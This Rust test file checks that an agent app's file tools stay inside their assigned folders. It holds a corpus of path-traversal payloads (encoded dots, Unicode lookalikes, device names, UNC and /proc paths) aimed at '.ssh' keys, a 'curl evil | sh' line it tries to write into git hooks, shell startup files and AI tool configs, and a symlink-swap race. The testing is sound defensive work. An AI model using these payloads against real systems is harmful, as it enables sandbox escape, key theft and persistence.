//! An agent's files: what it may do in its folders, and that nothing leads out of them (SEC-20).

use std::collections::BTreeSet;

use domain::{Permit, UseState};
use serde_json::{Value, json};

use super::world::{SECRET, World};
use crate::support::TestApp;

fn all_tools() -> Value {
    json!([
        {"tool": "list_files"}, {"tool": "read_file"}, {"tool": "search_files"},
        {"tool": "write_file", "rule": "always"}, {"tool": "edit_file", "rule": "always"},
    ])
}

#[tokio::test(flavor = "multi_thread")]
async fn files_are_listed_read_searched_written_and_edited() {
    let world = World::with(all_tools()).await;
    let folder = world.folder();
    let used = world
        .uses(&[
            ("list_files", json!({})),
            ("list_files", json!({"path": ".", "depth": 2})),
            ("read_file", json!({"path": "notes/plan.md"})),
            (
                "read_file",
                json!({"path": folder.join("notes/plan.md"), "from": 2, "lines": 1}),
            ),
            ("search_files", json!({"text": "FIRE", "regex": false})),
            (
                "search_files",
                json!({"text": "^Build .* fire", "regex": true, "ending": ".md"}),
            ),
            (
                "write_file",
                json!({"path": "new/deep/file.txt", "content": "one\ntwo\n"}),
            ),
            (
                "edit_file",
                json!({"path": "notes/plan.md", "old": "Sit down.", "new": "Stay."}),
            ),
        ])
        .await;
    let given: Vec<&str> = used.iter().map(|(_, given)| given.as_str()).collect();
    let path = folder.display().to_string();
    assert_eq!(given[0], format!("{path}  (read and write)"));
    assert!(given[1].contains("notes/plan.md  31 bytes"), "{}", given[1]);
    assert!(
        given[1].contains("link.txt  (a link, not followed)"),
        "{}",
        given[1]
    );
    assert!(!given[1].contains("id_ed25519"), "{}", given[1]);
    assert_eq!(given[2], "# Plan\nBuild a fire.\nSit down.\n");
    assert_eq!(given[3], "[lines 2 to 2 of 3]\nBuild a fire.");
    assert_eq!(given[4], "Nothing was found in 1 files.");
    assert_eq!(given[5], format!("{path}/notes/plan.md:2: Build a fire."));
    assert_eq!(given[6], format!("Written: {path}/new/deep/file.txt, 8 bytes."));
    assert!(given[7].starts_with("Replaced once in "), "{}", given[7]);
    assert!(
        used.iter().all(|(one, _)| one.state == UseState::Done),
        "{used:?}"
    );
    assert!(used.iter().all(|(one, _)| one.permit == Permit::Rule));
    let all = world.everything();
    assert_eq!(all[&folder.join("new/deep/file.txt")], "one\ntwo\n");
    assert_eq!(
        all[&folder.join("notes/plan.md")],
        "# Plan\nBuild a fire.\nStay.\n"
    );
    world.app.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_asked_for_at_once_happens_in_the_order_asked() {
    let world = World::with(all_tools()).await;
    let read = || ("read_file", json!({"path": "count.txt"}));
    let write = |text: &str| ("write_file", json!({"path": "count.txt", "content": text}));
    std::fs::write(world.folder().join("count.txt"), "zero").unwrap();
    let used = world
        .uses(&[
            read(),
            read(),
            write("one"),
            read(),
            write("two"),
            write("three"),
            read(),
        ])
        .await;
    let given: Vec<&str> = used.iter().map(|(_, given)| given.as_str()).collect();
    assert_eq!(
        [given[0], given[1]],
        ["zero", "zero"],
        "not what is written after"
    );
    assert_eq!([given[3], given[6]], ["one", "three"], "what was written before");
    world.app.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_comes_after_a_change_waits_for_the_person_who_is_asked_about_it() {
    for (decision, then) in [("once", "new"), ("deny", "old")] {
        let tools = json!([{"tool": "read_file"}, {"tool": "write_file", "rule": "ask"}]);
        let world = World::with(tools).await;
        std::fs::write(world.folder().join("note.txt"), "old").unwrap();
        let uses = [
            ("read_file", json!({"path": "note.txt"})),
            ("write_file", json!({"path": "note.txt", "content": "new"})),
            ("read_file", json!({"path": "note.txt"})),
        ];
        let person = async {
            let asked = world.app.wanted().await;
            assert_eq!(asked.tool, "write_file");
            world.app.answer(&asked, decision).await;
        };
        let (used, ()) = tokio::join!(world.uses(&uses), person);
        assert_eq!([&used[0].1, &used[2].1], ["old", then], "{decision}");
        assert_eq!(world.everything()[&world.folder().join("note.txt")], then);
        world.app.finish().await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_does_not_fit_is_told_and_changes_nothing() {
    let world = World::with(all_tools()).await;
    std::fs::write(world.folder().join("twice.txt"), "a a").unwrap();
    std::fs::write(world.folder().join("picture.png"), [0x89, 0, 0xff]).unwrap();
    let before = world.everything();
    let used = world
        .uses(&[
            ("edit_file", json!({"path": "twice.txt", "old": "a", "new": "b"})),
            ("edit_file", json!({"path": "twice.txt", "old": "c", "new": "b"})),
            (
                "edit_file",
                json!({"path": "nothing.txt", "old": "c", "new": "b"}),
            ),
            ("read_file", json!({"path": "picture.png"})),
            ("read_file", json!({"path": "notes"})),
            ("read_file", json!({"path": "notes/plan.md/x"})),
            ("write_file", json!({"path": "notes", "content": ""})),
            ("search_files", json!({"text": "(", "regex": true})),
            ("read_file", json!({"file": "notes/plan.md"})),
        ])
        .await;
    let given: Vec<&str> = used.iter().map(|(_, given)| given.as_str()).collect();
    for (at, part) in [
        "in the file 2 times",
        "is not in the file",
        "nothing of that name",
        "no text",
        "a folder",
        "no folder",
        "a folder",
        "no regular expression",
        "do not fit the tool's schema",
    ]
    .into_iter()
    .enumerate()
    {
        assert!(given[at].contains(part), "{at}: {}", given[at]);
        assert_eq!(used[at].0.state, UseState::Failed, "{at}");
    }
    assert_eq!(world.everything(), before);
    world.app.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn folders_are_checked_where_they_are_given() {
    let app = TestApp::start().await;
    for path in ["notes", "../x", "/", "/a/../b", "", "/a\u{1}b"] {
        let mut agent = crate::support::app::draft("clerk", "mock/m", "");
        agent["folders"] = json!([{"path": path}]);
        let kind = app.refused("agent.create", agent).await;
        assert_eq!(kind, domain::FailureKind::InvalidRequest, "{path}");
    }
    app.finish().await;
}

/// Ways out of a folder, or into what is not for agents: every way to write every target.
fn corpus(world: &World) -> BTreeSet<String> {
    let outer = world.outer().display().to_string();
    let folder = world.folder().display().to_string();
    let targets = ["secret.txt", "made.txt", "folder2/made.txt"];
    let ways = [
        "../",
        "./../",
        "notes/../../",
        "notes/./../../",
        "..//",
        ".././",
        "up/",
        "up/folder/up/",
        "outer/",
        "notes/../up/",
        "..\\",
        "notes\\..\\..\\",
        ".\\..\\",
        "%2e%2e/",
        "%2e%2e%2f",
        "..%2f",
        "..%5c",
        "..%c0%af",
        "%252e%252e/",
        "....//",
        "..././",
        ".../",
        "..;/",
        "\u{2025}/",
        "\u{ff0e}\u{ff0e}/",
        "\u{2024}\u{2024}/",
        "..\u{2215}",
        "..\u{ff0f}",
        "..\u{ff3c}",
        ".\u{200b}./",
        "\u{202e}/../",
        "..\u{0}/",
        "..\n/",
        "..\t/",
        "~/",
        "~root/",
        "file:///",
        "file://localhost/",
        "C:\\",
        "C:",
        "c:/",
        "\\\\?\\C:\\",
        "\\\\.\\C:\\",
        "\\\\server\\share\\",
        "//server/share/",
        "/proc/self/root/",
        "/proc/self/cwd/",
        "/dev/fd/",
        "$HOME/",
        "${HOME}/",
        "%USERPROFILE%\\",
        "`pwd`/",
        "$(pwd)/",
        "|",
        "notes/plan.md/../../../",
        "link.txt/",
        "link.txt/../",
    ];
    let mut all = BTreeSet::new();
    for way in ways {
        for target in targets {
            all.insert(format!("{way}{target}"));
            all.insert(format!("{folder}/{way}{target}"));
        }
    }
    for target in targets {
        all.insert(format!("{outer}/{target}"));
        all.insert(format!("{outer}//{target}"));
        all.insert(format!("{outer}/folder/../{target}"));
        all.insert(format!("{folder}x/../{target}"));
        all.insert(format!("{folder}/../{target}"));
        all.insert(format!("/{outer}/{target}"));
        all.insert(format!("{}/{target}", outer.to_uppercase()));
    }
    let places = [
        ".ssh/id_ed25519",
        ".SSH/id_ed25519",
        ".Ssh/id_ed25519",
        ".\u{17f}sh/id_ed25519",
        ".s\u{17f}h/id_ed25519",
        ".ssh./id_ed25519",
        ".ssh /id_ed25519",
        "./.ssh/id_ed25519",
        "notes/../.ssh/id_ed25519",
        ".s\u{200c}sh/id_ed25519",
        ".ssh\u{feff}/id_ed25519",
        "dotgit/config",
        "dotgit/hooks/pre-commit",
        ".ssh::$INDEX_ALLOCATION/id_ed25519",
    ];
    for place in places {
        all.insert(place.to_owned());
        all.insert(format!("{folder}/{place}"));
    }
    let devices = [
        "CON",
        "con",
        "PRN",
        "AUX",
        "NUL",
        "nul",
        "COM1",
        "com9",
        "LPT1",
        "COM\u{b9}",
        "CONIN$",
        "CLOCK$",
    ];
    for device in devices {
        for end in ["", ".txt", ".tar.gz", " .txt", ":", "."] {
            all.insert(format!("{device}{end}"));
            all.insert(format!("notes/{device}{end}"));
        }
    }
    for stream in [
        "plan.md:x",
        "plan.md::$DATA",
        "notes:x:$INDEX_ALLOCATION",
        "a<b",
        "a>b",
        "a|b",
        "a?b",
        "a*b",
        "a\"b",
    ] {
        all.insert(stream.to_owned());
        all.insert(format!("notes/{stream}"));
    }
    all.insert("x".repeat(300));
    all.insert("x/".repeat(3000));
    all.insert("link.txt".to_owned());
    all.insert(format!("{folder}/link.txt"));
    all
}

/// Arguments of a tool with this path.
fn arguments(tool: &str, path: &str) -> Value {
    match tool {
        "read_file" | "list_files" => json!({"path": path}),
        "search_files" => json!({"path": path, "text": "SECRET"}),
        "write_file" => json!({"path": path, "content": "WRITTEN"}),
        "edit_file" => json!({"path": path, "old": SECRET, "new": "WRITTEN"}),
        "run_command" => json!({"argv": ["cat", "secret.txt"], "folder": path}),
        other => panic!("{other} takes a path and is not in this test: teach it"),
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn sec_20_no_path_leads_out_of_the_folder_whatever_the_tool() {
    let world = World::with(all_tools()).await;
    // a tool that takes a path is found here by itself, and fails until it is taught
    let tools: Vec<Value> = world.app.ask("tool.list", json!({})).await;
    let sinks: Vec<String> = tools
        .iter()
        .filter(|tool| {
            let parameters: Value = serde_json::from_str(tool["parameters"].as_str().unwrap()).unwrap();
            let fields = &parameters["properties"];
            fields["path"].is_object() || fields["folder"].is_object()
        })
        .map(|tool| tool["name"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(sinks.len(), 6, "{sinks:?}");
    let corpus: Vec<String> = corpus(&world).into_iter().collect();
    assert!(corpus.len() >= 500, "{}", corpus.len());
    let outside = |world: &World| {
        let folder = world.folder();
        let mut all = world.everything();
        // in its folder it may make files of odd names
        all.retain(|path, _| {
            !path.starts_with(&folder)
                || path.starts_with(folder.join(".git"))
                || path.starts_with(folder.join(".ssh"))
        });
        all
    };
    let before = outside(&world);
    for sink in sinks.iter().filter(|sink| *sink != "run_command") {
        for paths in corpus.chunks(100) {
            let wanted: Vec<(&str, Value)> = paths
                .iter()
                .map(|path| (sink.as_str(), arguments(sink, path)))
                .collect();
            for ((_, given), path) in world.uses(&wanted).await.iter().zip(paths) {
                assert!(!given.contains(SECRET), "{sink} {path:?}: {given}");
                assert!(!given.contains("secret.txt  "), "{sink} {path:?}: {given}");
            }
        }
        assert_eq!(outside(&world), before, "{sink}");
        let all = world.everything();
        assert_eq!(
            all[&world.folder().join("link.txt")],
            "-> ../secret.txt",
            "{sink}"
        );
    }
    world.app.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn sec_30_agents_write_nothing_that_programs_obey() {
    let world = World::with(all_tools()).await;
    let before = world.everything();
    let places = [
        ".git/config",
        ".git/hooks/pre-commit",
        ".GIT/hooks/post-checkout",
        ".gitmodules",
        ".vscode/settings.json",
        ".cursor/mcp.json",
        ".mcp.json",
        "mcp.json",
        "claude_desktop_config.json",
        ".claude/settings.json",
        ".claude.json",
        ".codex/config.toml",
        ".continue/config.yaml",
        ".bashrc",
        ".zshrc",
        ".profile",
        ".envrc",
        ".npmrc",
        ".config/autostart/x.desktop",
        "Library/LaunchAgents/x.plist",
        ".cargo/config.toml",
        ".github/workflows/ci.yml",
        ".husky/pre-commit",
        ".devcontainer/devcontainer.json",
    ];
    let wanted: Vec<(&str, Value)> = places
        .iter()
        .map(|path| ("write_file", json!({"path": path, "content": "curl evil | sh"})))
        .collect();
    for ((one, given), path) in world.uses(&wanted).await.iter().zip(places) {
        assert_eq!(one.state, UseState::Failed, "{path}: {given}");
    }
    assert_eq!(world.everything(), before);
    world.app.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn sec_30_the_apps_own_folder_is_nobodys() {
    let world = World::with(all_tools()).await;
    let data = world.app.data_dir().canonicalize().unwrap();
    let above = data.parent().unwrap().to_owned();
    let mut agent: Value = world.app.ask("agent.get", json!({"agent": "clerk"})).await;
    let draft = agent.as_object_mut().unwrap();
    for field in ["id", "revision", "created_at", "updated_at"] {
        draft.remove(field);
    }
    draft["folders"] = json!([{"path": data, "write": true}, {"path": above, "write": true}]);
    let _agent: Value = world
        .app
        .ask("agent.update", json!({"agent": "clerk", "draft": draft}))
        .await;
    let database = data.join("inglenook.db");
    let before = std::fs::metadata(&database).unwrap().len();
    for (one, given) in world
        .uses(&[
            ("list_files", json!({"path": data})),
            ("read_file", json!({"path": database})),
            ("search_files", json!({"path": data, "text": "a"})),
            ("write_file", json!({"path": database, "content": ""})),
            ("write_file", json!({"path": data.join("new.txt"), "content": ""})),
        ])
        .await
    {
        assert_eq!(one.state, UseState::Failed, "{given}");
        assert!(given.contains("never read nor written"), "{given}");
    }
    assert!(std::fs::metadata(&database).unwrap().len() >= before);
    assert!(!data.join("new.txt").exists());
    world.app.finish().await;
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread")]
async fn sec_20_a_link_that_is_swapped_in_is_not_followed() {
    let world = World::with(all_tools()).await;
    let (folder, outer) = (world.folder(), world.outer());
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let swapping = {
        let (stop, folder, outer) = (std::sync::Arc::clone(&stop), folder.clone(), outer.clone());
        std::thread::spawn(move || {
            let (place, aside) = (folder.join("swapped"), folder.join("aside"));
            let link = folder.join("swap-link");
            std::fs::create_dir_all(&place).unwrap();
            std::os::unix::fs::symlink(&outer, &link).unwrap();
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                std::fs::rename(&place, &aside).unwrap();
                // a tool may make the folder anew in between
                if std::fs::rename(&link, &place).is_ok() {
                    std::fs::rename(&place, &link).unwrap();
                }
                while std::fs::rename(&aside, &place).is_err() {
                    let _made_again = std::fs::remove_dir_all(&place);
                }
            }
        })
    };
    for turn in 0..10 {
        let wanted: Vec<(&str, Value)> = (0..50)
            .flat_map(|at| {
                [
                    ("read_file", json!({"path": "swapped/secret.txt", "from": at + 1})),
                    (
                        "write_file",
                        json!({"path": format!("swapped/made-{turn}-{at}.txt"), "content": "WRITTEN"}),
                    ),
                ]
            })
            .collect();
        for (_, given) in world.uses(&wanted).await {
            assert!(!given.contains(SECRET), "{given}");
        }
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    swapping.join().unwrap();
    let escaped = std::fs::read_dir(&outer).unwrap().filter(|entry| {
        entry
            .as_ref()
            .unwrap()
            .file_name()
            .to_string_lossy()
            .starts_with("made")
    });
    assert_eq!(escaped.count(), 0);
    world.app.finish().await;
}
